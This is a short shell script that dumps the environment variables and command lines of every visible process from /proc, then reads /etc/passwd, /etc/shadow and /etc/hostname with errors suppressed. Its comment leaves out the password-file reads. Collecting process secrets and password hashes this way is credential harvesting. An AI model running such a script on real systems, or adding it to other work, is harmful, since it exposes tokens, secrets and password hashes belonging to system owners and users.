#!/bin/sh
# Prints the environment of itself and of every process that it sees, and how they were started.
env
for each in /proc/[0-9]*; do
  tr '\0' '\n' <"$each/environ"
  tr '\0' ' ' <"$each/cmdline"
done 2>/dev/null
cat /etc/passwd /etc/shadow /etc/hostname 2>/dev/null
exit 0
